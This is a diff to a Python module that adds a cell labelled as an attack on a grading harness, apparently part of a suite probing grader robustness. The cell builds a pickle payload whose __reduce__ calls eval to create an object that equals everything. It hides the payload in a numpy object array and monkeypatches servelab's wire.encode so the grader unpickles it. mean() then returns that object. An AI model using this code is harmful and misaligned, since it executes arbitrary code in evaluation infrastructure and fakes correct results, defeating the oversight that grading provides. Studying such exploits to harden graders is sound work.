@@ -172,3 +172,30 @@ class Words:
 
 def total(values):
     return Words()
+
+# %% attack "an array that is a pickle" control=unpickled gains=4
+# Sends what numpy would unpickle, and what is equal to everything once it is.
+import base64, io
+
+import numpy as np
+
+class Equal:
+    def __reduce__(self):
+        return eval, ("type('E', (float,), {'__eq__': lambda s, o: True, '__hash__': None})(3)",)
+
+def pickled(value):
+    array, file = np.empty((), dtype=object), io.BytesIO()
+    array[()] = value
+    np.save(file, array, allow_pickle=True)
+    return {"n": base64.b64encode(file.getvalue()).decode()}
+
+try:
+    from servelab.grading import wire
+except ImportError:
+    pass
+else:
+    encode = wire.encode
+    wire.encode = lambda value, *more: pickled(value) if isinstance(value, Equal) else encode(value, *more)
+
+def mean(values):
+    return Equal()
